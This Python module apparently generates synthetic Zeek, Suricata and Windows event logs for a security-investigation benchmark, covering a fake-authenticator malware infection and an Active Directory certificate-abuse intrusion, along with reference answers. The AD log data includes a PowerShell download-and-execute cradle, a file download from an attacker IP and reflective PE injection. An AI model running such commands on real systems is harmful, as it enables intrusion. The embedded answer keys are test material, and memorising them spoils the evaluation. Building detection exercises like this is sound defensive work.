"""Synthetic, seed-deterministic scenario fixtures.

``malware-fakeauth`` models a single infected Windows workstation that
fetches a PowerShell payload and then beacons to its C2 server;
``ad-redteam`` models a certificate-abuse intrusion into an Active
Directory domain spread over three five-minute windows. The seed only
perturbs benign noise and timing jitter: every count that the query
library aggregates is fixed, so aggregates are identical for all seeds.
"""

from __future__ import annotations

import json
import random
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any, Callable, Optional, Union

import yaml

from .._io import atomic_write_text
from ..events import format_timestamp
from ..questions import MALWARE_QUESTIONS, TIMELINE_QUESTION

FIXTURE_KINDS = ("malware-fakeauth", "ad-redteam")

# --- shared helpers ---------------------------------------------------------


def _compact(doc: dict) -> str:
    return json.dumps(doc, separators=(",", ":"), ensure_ascii=False)


@dataclass
class _Draft:
    offset_ms: int
    record: dict


class _Timeline:
    def __init__(self, origin: datetime):
        self.origin = origin
        self.drafts: list[_Draft] = []

    def add(self, offset_ms: int, record: dict) -> None:
        self.drafts.append(_Draft(offset_ms, record))

    def render(self) -> list[str]:
        lines = []
        for draft in sorted(self.drafts, key=lambda d: d.offset_ms):
            ts = self.origin + timedelta(milliseconds=draft.offset_ms)
            lines.append(_compact({"@timestamp": format_timestamp(ts), **draft.record}))
        return lines


def _write_bundle(out_dir: Path, files: dict[str, str]) -> dict[str, Path]:
    out_dir.mkdir(parents=True, exist_ok=True)
    written = {}
    for name, text in files.items():
        path = out_dir / name
        atomic_write_text(path, text)
        written[name] = path
    return written


# --- malware: fake authenticator ----------------------------------------------

MALWARE_EVENT_COUNT = 3694
MALWARE_PREFIX_EVENTS = 300  # leading events that carry no attack infrastructure

VICTIM_IP = "10.1.17.215"
VICTIM_HOST = "DESKTOP-L8C5GSJ"
VICTIM_USER = "shutchenson"
DC_IP = "10.1.17.2"
DC_HOST = "WIN-GSH54QLW48D"
REALM = "BLUEMOONTUESDAY.COM"
C2_PRIMARY = "5.252.153.241"
C2_TLS = ("45.125.66.252", "45.125.66.32")
FAKE_DOMAIN = "google-authenticator.burleson-appliance.net"
FAKE_DOMAIN_IP = "104.21.64.118"
PAYLOAD_URI = "/api/file/get-file/29842.ps1"
POLL_URI = "/1517096937"
PS_AGENT = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.26100.2161"

MALWARE_NETWORK = {
    "lan_range": "10.1.17.0/24",
    "domain": "bluemoontuesday.com",
    "dc_address": DC_IP,
    "dc_hostname": DC_HOST,
    "ad_name": "BLUEMOONTUESDAY",
    "gateway": "10.1.17.1",
    "broadcast": "10.1.17.255",
}

_BENIGN_DOMAINS = (
    "www.msftconnecttest.com", "login.live.com", "settings-win.data.microsoft.com", "www.bing.com",
    "ctldl.windowsupdate.com", "ocsp.digicert.com", "outlook.office365.com", "www.google.com",
    "fonts.gstatic.com", "wpad.bluemoontuesday.com", "_ldap._tcp.dc._msdcs.bluemoontuesday.com",
    "215.17.1.10.in-addr.arpa", "e3913.cd.akamaiedge.net", "www.office.com", "dns.msftncsi.com",
)
_BENIGN_EXTERNAL = (
    "13.107.246.40", "20.190.151.7", "52.113.194.132", "23.47.180.113",
    "142.250.72.99", "204.79.197.200", "104.18.38.233", "40.126.32.134",
)
_BENIGN_TLS_NAMES = (
    "login.live.com", "settings-win.data.microsoft.com", "www.bing.com", "outlook.office365.com",
    "www.google.com", "fonts.gstatic.com", "www.office.com",
)
_BENIGN_HTTP = (
    ("www.msftconnecttest.com", "/connecttest.txt", "Microsoft NCSI"),
    ("ocsp.digicert.com", "/MFEwTzBNMEswSTAJBgUrDgMCGgUABBQ", "Microsoft-CryptoAPI/10.0"),
    ("ctldl.windowsupdate.com", "/msdownload/update/v3/static/trustedr/en/disallowedcertstl.cab",
     "Microsoft-CryptoAPI/10.0"),
    ("ctldl.windowsupdate.com", "/msdownload/update/v3/static/trustedr/en/pinrulesstl.cab",
     "Microsoft-CryptoAPI/10.0"),
    ("crl.microsoft.com", "/pki/crl/products/MicRooCerAut2011_2011_03_22.crl", "Microsoft-CryptoAPI/10.0"),
    ("dns.msftncsi.com", "/ncsi.txt", "Microsoft NCSI"),
    ("x1.c.lencr.org", "/", "Microsoft-CryptoAPI/10.0"),
    ("r3.o.lencr.org", "/MFMwUTBPME0wSzAJBgUrDgMCGgUABBRI2smg", "Microsoft-CryptoAPI/10.0"),
    ("www.bing.com", "/favicon.ico", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Edge/131.0"),
    ("go.microsoft.com", "/fwlink/?LinkId=544713", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Edge/131.0"),
    ("apps.identrust.com", "/roots/dstrootcax3.p7c", "Microsoft-CryptoAPI/10.0"),
)


class _MalwareBuilder:
    """Generates the malware scenario; ``rng`` only touches benign choices and jitter."""

    def __init__(self, seed: int):
        self.rng = random.Random(seed)
        self.tl = _Timeline(datetime(2025, 1, 22, 19, 44, 0, tzinfo=timezone.utc))
        self.end_ms = 50 * 60 * 1000
        self.prefix_end_ms = 120_000
        self.attack_start_ms = 150_000
        self.uid = 0

    def _uid(self) -> str:
        self.uid += 1
        return f"C{self.uid:07d}"

    def _port(self) -> int:
        return self.rng.randint(49152, 65535)

    def _at(self, lo: int, hi: int) -> int:
        return self.rng.randint(lo, hi)

    # record factories --------------------------------------------------------

    def kerberos(self, t: int, client: str, service: str, request_type: str) -> None:
        msg = {"uid": self._uid(), "id.orig_h": VICTIM_IP, "id.resp_h": DC_IP, "request_type": request_type,
               "client": f"{client}/{REALM}", "service": service, "success": True, "cipher": "aes256-cts-hmac-sha1-96"}
        self.tl.add(t, {"event.dataset": "zeek.kerberos", "event.module": "zeek", "source.ip": VICTIM_IP,
                        "source.port": self._port(), "destination.ip": DC_IP, "destination.port": 88,
                        "message": _compact(msg)})

    def conn(self, t: int, dst: str, port: int, service: str, src: str = VICTIM_IP) -> None:
        orig, resp = self.rng.randint(60, 2400), self.rng.randint(40, 9000)
        msg = {"uid": self._uid(), "id.orig_h": src, "id.resp_h": dst, "id.resp_p": port, "proto": "tcp",
               "service": service, "conn_state": "SF", "orig_bytes": orig, "resp_bytes": resp}
        self.tl.add(t, {"event.dataset": "zeek.conn", "event.module": "zeek", "source.ip": src,
                        "source.port": self._port(), "destination.ip": dst, "destination.port": port,
                        "network.transport": "tcp", "message": _compact(msg)})

    def dns(self, t: int, query: str, answer: str) -> None:
        msg = {"uid": self._uid(), "id.orig_h": VICTIM_IP, "id.resp_h": DC_IP, "query": query,
               "qtype_name": "A", "rcode_name": "NOERROR", "answers": [answer]}
        self.tl.add(t, {"event.dataset": "zeek.dns", "event.module": "zeek", "source.ip": VICTIM_IP,
                        "source.port": self._port(), "destination.ip": DC_IP, "destination.port": 53,
                        "dns.query.name": query, "message": _compact(msg)})

    def http(self, t: int, dst: str, host: str, uri: str, agent: str, port: int = 80) -> None:
        msg = {"uid": self._uid(), "id.orig_h": VICTIM_IP, "id.resp_h": dst, "id.resp_p": port, "host": host,
               "request": f"GET {uri} HTTP/1.1", "user_agent": agent, "status_code": 200}
        self.tl.add(t, {"event.dataset": "zeek.http", "event.module": "zeek", "source.ip": VICTIM_IP,
                        "source.port": self._port(), "destination.ip": dst, "destination.port": port,
                        "http.uri": uri, "http.request.method": "GET", "user_agent.original": agent,
                        "message": _compact(msg)})

    def tls(self, t: int, dst: str, server_name: Optional[str], subject: str, status: str) -> None:
        msg = {"uid": self._uid(), "id.orig_h": VICTIM_IP, "id.resp_h": dst, "id.resp_p": 443, "version": "TLSv12",
               "subject": subject, "validation_status": status}
        record = {"event.dataset": "zeek.ssl", "event.module": "zeek", "source.ip": VICTIM_IP,
                  "source.port": self._port(), "destination.ip": dst, "destination.port": 443,
                  "tls.server.subject": subject}
        if server_name:
            msg["server_name"] = server_name
            record["tls.server_name"] = server_name
        record["message"] = _compact(msg)
        self.tl.add(t, record)

    def alert(self, t: int, signature: str, severity: int, src: str, dst: str, port: int, sid: int) -> None:
        msg = {"alert": {"signature": signature, "signature_id": sid, "severity": severity, "action": "allowed"},
               "src_ip": src, "dest_ip": dst, "dest_port": port, "proto": "TCP"}
        self.tl.add(t, {"event.dataset": "suricata.alert", "event.module": "suricata", "source.ip": src,
                        "source.port": self._port(), "destination.ip": dst, "destination.port": port,
                        "rule.name": signature, "rule.severity": severity, "rule.uuid": str(sid),
                        "message": _compact(msg)})

    def dhcp(self, t: int) -> None:
        msg = {"uid": self._uid(), "client_addr": VICTIM_IP, "host_name": VICTIM_HOST, "domain": "bluemoontuesday.com",
               "msg_types": ["REQUEST", "ACK"]}
        self.tl.add(t, {"event.dataset": "zeek.dhcp", "event.module": "zeek", "source.ip": VICTIM_IP,
                        "destination.ip": "10.1.17.1", "destination.port": 67, "dhcp.hostname": VICTIM_HOST,
                        "dhcp.assigned_ip": VICTIM_IP, "message": _compact(msg)})

    # scenario ----------------------------------------------------------------

    def benign_dns(self, t: int) -> None:
        domain = self.rng.choice(_BENIGN_DOMAINS)
        self.dns(t, domain, self.rng.choice(_BENIGN_EXTERNAL))

    def benign_conn(self, t: int) -> None:
        roll = self.rng.random()
        if roll < 0.35:
            port, service = self.rng.choice(((389, "ldap"), (445, "smb"), (135, "dce_rpc"), (53, "dns")))
            self.conn(t, DC_IP, port, service)
        else:
            self.conn(t, self.rng.choice(_BENIGN_EXTERNAL), 443, "ssl")

    def benign_tls(self, t: int) -> None:
        name = self.rng.choice(_BENIGN_TLS_NAMES)
        self.tls(t, self.rng.choice(_BENIGN_EXTERNAL), name, f"CN={name}", "ok")

    def build(self) -> list[str]:
        rng = self.rng
        p_lo, p_hi = 1, self.prefix_end_ms - 1
        a_lo, a_hi = self.attack_start_ms, self.end_ms - 1
        host_service = f"host/{VICTIM_HOST.lower()}.bluemoontuesday.com"

        # pinned first and last records
        self.dhcp(0)
        self.conn(self.end_ms, C2_PRIMARY, 80, "http")

        # benign prefix: 300 events in total including the first record
        for _ in range(3):
            self.dhcp(self._at(p_lo, p_hi))
        kerberos_prefix = (
            [(VICTIM_USER, f"krbtgt/{REALM}", "AS")] * 2 + [(VICTIM_USER, f"LDAP/{DC_HOST}.bluemoontuesday.com", "TGS")]
            + [(f"{VICTIM_HOST}$", f"krbtgt/{REALM}", "AS")] * 2 + [(f"{VICTIM_HOST}$", host_service, "TGS")] * 2
            + [(f"{VICTIM_HOST.lower()}$", f"cifs/{DC_HOST}.bluemoontuesday.com", "TGS")] * 2
        )
        for client, service, kind in kerberos_prefix:
            self.kerberos(self._at(p_lo, p_hi), client, service, kind)
        for host, uri, agent in _BENIGN_HTTP[:5]:
            for _ in range(2):
                self.http(self._at(p_lo, p_hi), rng.choice(_BENIGN_EXTERNAL), host, uri, agent)
        for _ in range(90):
            self.benign_dns(self._at(p_lo, p_hi))
        for _ in range(30):
            self.benign_tls(self._at(p_lo, p_hi))
        for _ in range(300 - 1 - 3 - len(kerberos_prefix) - 10 - 90 - 30):
            self.benign_conn(self._at(p_lo, p_hi))

        # identity traffic during the incident
        kerberos_later = (
            [(VICTIM_USER, f"krbtgt/{REALM}", "TGS")] * 4 + [(VICTIM_USER, f"cifs/{DC_HOST}.bluemoontuesday.com", "TGS")] * 4
            + [(f"{VICTIM_HOST}$", f"krbtgt/{REALM}", "TGS")] * 4 + [(f"{VICTIM_HOST}$", host_service, "TGS")] * 2
            + [(f"{VICTIM_HOST.lower()}$", f"krbtgt/{REALM}", "AS")] * 2
        )
        for client, service, kind in kerberos_later:
            self.kerberos(self._at(a_lo, a_hi), client, service, kind)

        # initial infection: fake authenticator page, then the PowerShell payload
        t_lure = self.attack_start_ms + 30_000
        for i in range(4):
            self.dns(t_lure + i * 45_000 + rng.randint(0, 999), FAKE_DOMAIN, FAKE_DOMAIN_IP)
        for i in range(6):
            self.tls(t_lure + 2_000 + i * 30_000 + rng.randint(0, 999), FAKE_DOMAIN_IP, FAKE_DOMAIN,
                     f"CN={FAKE_DOMAIN}", "ok")
        t_payload = self.attack_start_ms + 240_000
        for i in range(4):
            self.http(t_payload + i * 20_000 + rng.randint(0, 999), C2_PRIMARY, C2_PRIMARY, PAYLOAD_URI, PS_AGENT)

        high = (
            ("ET MALWARE Fake Microsoft Teams CnC", 1, 2034567),
            ("ET INFO PS1 Powershell File Request", 2, 2046219),
            ("ET INFO Dotted Quad Host PS1 Request", 2, 2049876),
        )
        for j, (signature, severity, sid) in enumerate(high):
            for i in range(2):
                self.alert(t_payload + i * 20_000 + j * 10 + 5, signature, severity, VICTIM_IP, C2_PRIMARY, 80, sid)
        for i in range(2):
            self.alert(self._at(a_lo, a_hi), "ET DROP Spamhaus DROP Listed Traffic Inbound group 5", 2,
                       "185.188.32.26", VICTIM_IP, 443, 2400004)
        medium = (
            ("ET INFO TeamViewer Dyngate User-Agent", 2009475),
            ("ET INFO TeamViewer Dyngate User-Agent", 2009475),
            ("ET POLICY Windows Powershell User-Agent Usage", 2032086),
            ("ET POLICY Windows Powershell User-Agent Usage", 2032086),
            ("ET INFO HTTP Request to a *.net domain", 2038765),
            ("ET POLICY HTTP traffic on port 443 (POST)", 2013926),
            ("ET INFO Observed DNS Query to .net TLD", 2027865),
            ("ET POLICY Self Signed SSL Certificate", 2013659),
        )
        for signature, sid in medium:
            self.alert(self._at(a_lo, a_hi), signature, 3, VICTIM_IP, rng.choice((C2_PRIMARY, *C2_TLS)), 443, sid)

        # remote-access tool check-ins
        for _ in range(2):
            self.http(self._at(a_lo, a_hi), "217.146.28.147", "master9.teamviewer.com",
                      "/din.aspx?s=00000000&client=DynGate&p=10000001", "DynGate")

        # C2: polling over HTTP plus TLS sessions with self-signed certificates
        poll_lo = t_payload + 90_000
        for _ in range(594):
            self.http(self._at(poll_lo, a_hi), C2_PRIMARY, C2_PRIMARY, POLL_URI, PS_AGENT)
        for _ in range(1198 - 1):
            self.conn(self._at(t_payload, a_hi), C2_PRIMARY, 80, "http")
        for ip, count in zip(C2_TLS, (36, 24)):
            for _ in range(count):
                self.tls(self._at(poll_lo, a_hi), ip, None, f"CN={ip}, O=Internet Widgits Pty Ltd",
                         "self signed certificate")

        # benign background for the rest of the capture
        for host, uri, agent in _BENIGN_HTTP:
            for _ in range(2):
                self.http(self._at(a_lo, a_hi), rng.choice(_BENIGN_EXTERNAL), host, uri, agent)
        fixed = len(self.tl.drafts)
        for _ in range(400):
            self.benign_dns(self._at(self.prefix_end_ms + 1, a_hi))
        for _ in range(180):
            self.benign_tls(self._at(self.prefix_end_ms + 1, a_hi))
        for _ in range(MALWARE_EVENT_COUNT - fixed - 580):
            self.benign_conn(self._at(self.prefix_end_ms + 1, a_hi))
        assert len(self.tl.drafts) == MALWARE_EVENT_COUNT
        return self.tl.render()


def malware_references() -> list[dict]:
    return [
        {"question_id": "Q1", "answer_type": "ip", "value": VICTIM_IP},
        {"question_id": "Q2", "answer_type": "hostname", "value": VICTIM_HOST.lower()},
        {"question_id": "Q3", "answer_type": "user", "value": VICTIM_USER},
        {"question_id": "Q4", "answer_type": "domain_set", "value": [FAKE_DOMAIN]},
        {"question_id": "Q5", "answer_type": "ip_set", "value": [*C2_TLS, C2_PRIMARY]},
    ]


# --- Active Directory red-team exercise ------------------------------------

AD_NETWORK = {
    "lan_range": "10.0.1.0/24",
    "domain": "corp.local",
    "dc_address": "10.0.1.10",
    "dc_hostname": "DC01",
    "ad_name": "CORP",
    "gateway": "10.0.1.1",
    "broadcast": "10.0.1.255",
}
AD_ENABLED_QUERIES = (
    "powershell_injection", "file_drop", "cert_enumeration", "cert_request", "cert_issued",
    "kerberos_auth", "kerberos_service_tickets", "service_installation", "user_creation",
)

_WS01, _DC01, _ATTACKER, _SCADA = "10.0.1.15", "10.0.1.10", "10.0.1.66", "10.20.0.5"

# reference steps as required-token sets, per window
AD_WINDOW_REFERENCES = (
    {
        "start": "2025-03-12T15:30:00.000Z",
        "end": "2025-03-12T15:35:00.000Z",
        "steps": [
            ["invoke-webrequest", "ws01"], ["invoke-reflectivepeinjection", "ws01"], ["update.exe"],
            ["invoice.ps1"], ["enumeration", "jdoe"], ["request", "jdoe", "administrator"], ["issued", "jdoe"],
            ["tgt", "administrator"], ["service", "ticket", "krbtgt"], ["service", "ticket", "dc01$"],
            ["psexesvc", "dc01"],
        ],
        "defenses": ["RC", "RK", "RD"],
    },
    {
        "start": "2025-03-12T15:35:00.000Z",
        "end": "2025-03-12T15:40:00.000Z",
        "steps": [
            ["invoke-expression", "dc01"], ["svchost32.exe"], ["winupdatesvc", "dc01"], ["created", "helpdesk_adm"],
            ["domain", "admins", "helpdesk_adm"], ["service", "ticket", "krbtgt"], ["enumeration", "administrator"],
            ["ssh", "scada"],
        ],
        "defenses": ["RK", "RD", "RP", "DU"],
    },
    {
        "start": "2025-03-12T15:40:00.000Z",
        "end": "2025-03-12T15:46:00.000Z",
        "steps": [
            ["created", "svc_update"], ["domain", "admins", "svc_update"], ["request", "svc_update"],
            ["issued", "svc_update"], ["tgt", "svc_update"], ["service", "ticket", "krbtgt"], ["ssh", "scada"],
        ],
        "defenses": ["RD", "DU", "RK"],
    },
)


class _AdBuilder:
    def __init__(self, seed: int):
        self.rng = random.Random(seed)
        self.tl = _Timeline(datetime(2025, 3, 12, 15, 30, 0, tzinfo=timezone.utc))
        self.end_ms = 16 * 60 * 1000 - 1
        self.record_id = 100_000

    def _win(self, t: int, code: str, dataset: str, host: str, data: dict, text: str, extra: Optional[dict] = None) -> None:
        self.record_id += 1
        record = {"event.dataset": dataset, "event.module": "windows", "event.code": code, "host.name": host,
                  "winlog.record_id": self.record_id, "winlog.computer_name": f"{host}.corp.local"}
        for key, value in data.items():
            record[f"winlog.event_data.{key}"] = value
        record.update(extra or {})
        record["message"] = text
        self.tl.add(t, record)

    @staticmethod
    def _ms(minute: int, second: float) -> int:
        return int(round(((minute - 30) * 60 + second) * 1000))

    # attack events ----------------------------------------------------------

    def powershell(self, t: int, host: str, script: str) -> None:
        self._win(t, "4104", "windows.powershell", host, {"ScriptBlockId": f"{self.rng.getrandbits(64):016x}"},
                  f"Creating Scriptblock text (1 of 1): {script}")

    def file_created(self, t: int, host: str, image: str, target: str) -> None:
        self._win(t, "11", "windows.sysmon_operational", host, {"Image": image, "TargetFilename": target},
                  f"File created: Image: {image} TargetFilename: {target}")

    def cert_template_read(self, t: int, user: str, template: str) -> None:
        self._win(t, "4662", "windows.security", "DC01",
                  {"SubjectUserName": user, "ObjectType": "%{e5209ca2-3bba-11d2-90cc-00c04fd91ab1} pKICertificateTemplate",
                   "ObjectName": f"CN={template},CN=Certificate Templates,CN=Public Key Services",
                   "AccessMask": "0x10"},
                  f"An operation was performed on an object. Subject: {user} Object Type: pKICertificateTemplate "
                  f"Object Name: CN={template}")

    def cert_request(self, t: int, requester: str, san: str, request_id: int) -> None:
        attrs = f"CertificateTemplate:CorpUser\nSAN:upn={san}@corp.local"
        self._win(t, "4886", "windows.security", "CA01",
                  {"Requester": f"CORP\\{requester}", "RequestId": str(request_id), "Attributes": attrs},
                  f"Certificate Services received a certificate request. Request ID: {request_id} "
                  f"Requester: CORP\\{requester} Attributes: {attrs}")

    def cert_issued(self, t: int, requester: str, subject: str, request_id: int) -> None:
        self._win(t, "4887", "windows.security", "CA01",
                  {"Requester": f"CORP\\{requester}", "RequestId": str(request_id), "Subject": subject},
                  f"Certificate Services approved a certificate request and issued a certificate. "
                  f"Request ID: {request_id} Requester: CORP\\{requester} Subject: {subject}")

    def tgt(self, t: int, account: str, preauth: str, src: str) -> None:
        self._win(t, "4768", "windows.security", "DC01",
                  {"TargetUserName": account, "PreAuthType": preauth, "TicketEncryptionType": "0x12",
                   "IpAddress": f"::ffff:{src}"},
                  f"A Kerberos authentication ticket (TGT) was requested. Account Name: {account} "
                  f"Pre-Authentication Type: {preauth} Client Address: ::ffff:{src}",
                  {"source.ip": src, "destination.ip": _DC01, "destination.port": 88})

    def tgs(self, t: int, account: str, service: str, enc: str, src: str) -> None:
        self._win(t, "4769", "windows.security", "DC01",
                  {"TargetUserName": account, "ServiceName": service, "TicketEncryptionType": enc,
                   "IpAddress": f"::ffff:{src}"},
                  f"A Kerberos service ticket was requested. Account Name: {account} Service Name: {service} "
                  f"Ticket Encryption Type: {enc}",
                  {"source.ip": src, "destination.ip": _DC01, "destination.port": 88})

    def service_install(self, t: int, host: str, name: str, image: str) -> None:
        self._win(t, "7045", "windows.system", host, {"ServiceName": name, "ImagePath": image, "StartType": "demand start"},
                  f"A service was installed in the system. Service Name: {name} Service File Name: {image}")

    def user_created(self, t: int, creator: str, account: str) -> None:
        self._win(t, "4720", "windows.security", "DC01", {"SubjectUserName": creator, "TargetUserName": account},
                  f"A user account was enabled and created. Subject: {creator} New Account: {account}")

    def group_add(self, t: int, creator: str, member: str, group: str) -> None:
        self._win(t, "4728", "windows.security", "DC01",
                  {"SubjectUserName": creator, "MemberName": f"CN={member},CN=Users,DC=corp,DC=local",
                   "TargetUserName": group},
                  f"A member was added to a security-enabled global group. Member: {member} Group: {group}")

    def ssh(self, t: int, src: str, dst: str, user: str) -> None:
        msg = {"uid": f"S{self.rng.getrandbits(40):010x}", "id.orig_h": src, "id.resp_h": dst, "id.resp_p": 22,
               "auth_success": True, "client": "SSH-2.0-OpenSSH_9.6", "user": user}
        self.tl.add(t, {"event.dataset": "zeek.ssh", "event.module": "zeek", "source.ip": src,
                        "destination.ip": dst, "destination.port": 22, "message": _compact(msg)})

    # benign noise -------------------------------------------------------------

    def noise(self, t: int) -> None:
        rng = self.rng
        roll = rng.randrange(10)
        host = rng.choice(("WS01", "WS02", "WS03", "DC01", "CA01"))
        user = rng.choice(("alice", "bob", "carol", "WS02$", "WS03$"))
        src = rng.choice(("10.0.1.15", "10.0.1.16", "10.0.1.17"))
        if roll == 0:
            self._win(t, "4624", "windows.security", host, {"TargetUserName": user, "LogonType": "3"},
                      f"An account was successfully logged on. Account Name: {user} Logon Type: 3")
        elif roll == 1:
            proc = rng.choice(("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\explorer.exe",
                               "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"))
            self._win(t, "4688", "windows.security", host, {"NewProcessName": proc, "SubjectUserName": user},
                      f"A new process has been created. New Process Name: {proc}")
        elif roll == 2:
            script = rng.choice(("Get-ChildItem -Path C:\\Scripts", "Get-Service | Where-Object Status -eq Running",
                                 "Import-Module ActiveDirectory"))
            self.powershell(t, host, script)
        elif roll == 3:
            target = rng.choice(("C:\\Program Files\\Microsoft\\EdgeUpdate\\Install\\setup.exe",
                                 "C:\\Windows\\SoftwareDistribution\\Download\\patch.exe",
                                 "C:\\Users\\alice\\AppData\\Local\\Temp\\~DF3A1.tmp"))
            self.file_created(t, host, "C:\\Windows\\System32\\svchost.exe", target)
        elif roll == 4:
            self.tgt(t, rng.choice(("alice", "bob", "carol", "WS02$")), "2", src)
        elif roll == 5:
            self.tgs(t, rng.choice(("alice", "bob", "WS02$")), rng.choice(("cifs/FS01", "ldap/DC01", "http/INTRANET")),
                     "0x12", src)
        elif roll == 6:
            self._win(t, "4662", "windows.security", "DC01",
                      {"SubjectUserName": rng.choice(("alice", "DC01$")), "ObjectType": "%{bf967aba} user",
                       "ObjectName": "CN=alice,CN=Users", "AccessMask": "0x10"},
                      "An operation was performed on an object. Object Type: user")
        elif roll == 7:
            msg = {"id.orig_h": src, "id.resp_h": rng.choice((_DC01, "10.0.1.20")), "proto": "tcp",
                   "service": rng.choice(("ldap", "smb", "dns")), "conn_state": "SF"}
            self.tl.add(t, {"event.dataset": "zeek.conn", "event.module": "zeek", "source.ip": src,
                            "destination.ip": msg["id.resp_h"], "destination.port": rng.choice((389, 445, 53)),
                            "message": _compact(msg)})
        elif roll == 8:
            machine = rng.choice(("WS02$", "WS03$"))
            rid = rng.randint(500, 599)
            self.cert_request(t, machine, machine.rstrip("$"), rid)
        else:
            self.service_install(t, host, "MicrosoftEdgeUpdate",
                                 "\"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe\" /svc")

    def build(self) -> list[str]:
        m = self._ms
        # window 1: initial access on WS01, ESC1 abuse, lateral movement to DC01
        self.powershell(m(31, 5), "WS01", "Invoke-WebRequest -Uri http://10.0.1.66/update.exe -OutFile $env:TEMP\\update.exe")
        self.file_created(m(31, 9), "WS01", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                          "C:\\Users\\jdoe\\AppData\\Local\\Temp\\update.exe")
        self.file_created(m(31, 20), "WS01", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                          "C:\\Users\\jdoe\\Downloads\\invoice.ps1")
        self.powershell(m(31, 42), "WS01", "Invoke-ReflectivePEInjection -PEBytes $bytes -ProcId 4120")
        for s in (5, 6, 8):
            self.cert_template_read(m(32, s), "jdoe", self.rng.choice(("CorpUser", "WebServer", "CorpUser")))
        self.cert_request(m(32, 30), "jdoe", "Administrator", 731)
        self.cert_issued(m(32, 31), "jdoe", "CN=jdoe", 731)
        self.tgt(m(32, 50), "Administrator", "16", _WS01)
        self.tgs(m(32, 55), "Administrator", "krbtgt", "0x17", _WS01)
        self.tgs(m(33, 2), "Administrator", "DC01$", "0x17", _WS01)
        self.service_install(m(33, 40), "DC01", "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")

        # window 2: persistence on DC01
        self.powershell(m(35, 40), "DC01", "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://10.0.1.66/a')")
        self.file_created(m(35, 48), "DC01", "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\Temp\\svchost32.exe")
        self.service_install(m(36, 10), "DC01", "WinUpdateSvc", "C:\\Windows\\Temp\\svchost32.exe")
        self.user_created(m(36, 40), "Administrator", "helpdesk_adm")
        self.group_add(m(36, 45), "Administrator", "helpdesk_adm", "Domain Admins")
        self.tgs(m(37, 20), "Administrator", "krbtgt", "0x17", _DC01)
        self.cert_template_read(m(37, 50), "Administrator", "CorpUser")
        self.ssh(m(38, 30), _ATTACKER, _SCADA, "operator")

        # window 3: second foothold account and renewed SCADA access attempt
        self.user_created(m(40, 20), "Administrator", "svc_update")
        self.group_add(m(40, 26), "Administrator", "svc_update", "Domain Admins")
        self.cert_request(m(41, 5), "svc_update", "svc_update", 748)
        self.cert_issued(m(41, 6), "svc_update", "CN=svc_update", 748)
        self.tgt(m(41, 30), "svc_update", "16", _DC01)
        self.tgs(m(41, 40), "svc_update", "krbtgt", "0x17", _DC01)
        self.ssh(m(43, 15), _ATTACKER, _SCADA, "operator")

        # pinned first/last noise, then background activity
        self.noise(0)
        self.noise(self.end_ms)
        for _ in range(640):
            self.noise(self.rng.randint(1, self.end_ms - 1))
        return self.tl.render()


def ad_window_references() -> list[dict]:
    return [dict(w) for w in AD_WINDOW_REFERENCES]


# --- public entry point ---------------------------------------------------------


def _scenario_doc(kind: str) -> dict:
    if kind == "malware-fakeauth":
        return {
            "scenario_id": "fake-authenticator",
            "kind": kind,
            "events": "events.ndjson",
            "library": "malware",
            "references": "references.json",
            "network": MALWARE_NETWORK,
            "questions": [{"id": q.question_id, "text": q.text, "answer_type": q.answer_type} for q in MALWARE_QUESTIONS],
            "provider": "oracle",
            "k": 7,
        }
    return {
        "scenario_id": "ad-redteam",
        "kind": kind,
        "events": "events.ndjson",
        "library": "ad",
        "queries": list(AD_ENABLED_QUERIES),
        "window_references": "windows.json",
        "window_minutes": 5,
        "network": AD_NETWORK,
        "questions": [{"id": TIMELINE_QUESTION.question_id, "text": TIMELINE_QUESTION.text, "answer_type": "narrative"}],
        "provider": "oracle",
    }


def fixture_lines(kind: str, seed: int = 0) -> list[str]:
    builders: dict[str, Callable[[int], Any]] = {"malware-fakeauth": _MalwareBuilder, "ad-redteam": _AdBuilder}
    if kind not in builders:
        raise ValueError(f"unknown fixture kind {kind!r}; expected one of {', '.join(FIXTURE_KINDS)}")
    return builders[kind](seed).build()


def generate_fixture(kind: str, seed: int, out_dir: Union[str, Path]) -> dict[str, Path]:
    """Write ``events.ndjson``, reference answers and ``scenario.yaml`` to ``out_dir``."""
    lines = fixture_lines(kind, seed)
    files = {"events.ndjson": "\n".join(lines) + "\n"}
    if kind == "malware-fakeauth":
        files["references.json"] = json.dumps(malware_references(), indent=2) + "\n"
    else:
        files["windows.json"] = json.dumps(ad_window_references(), indent=2) + "\n"
    doc = _scenario_doc(kind)
    doc["seed"] = seed
    files["scenario.yaml"] = yaml.safe_dump(doc, sort_keys=False, width=120)
    return _write_bundle(Path(out_dir), files)
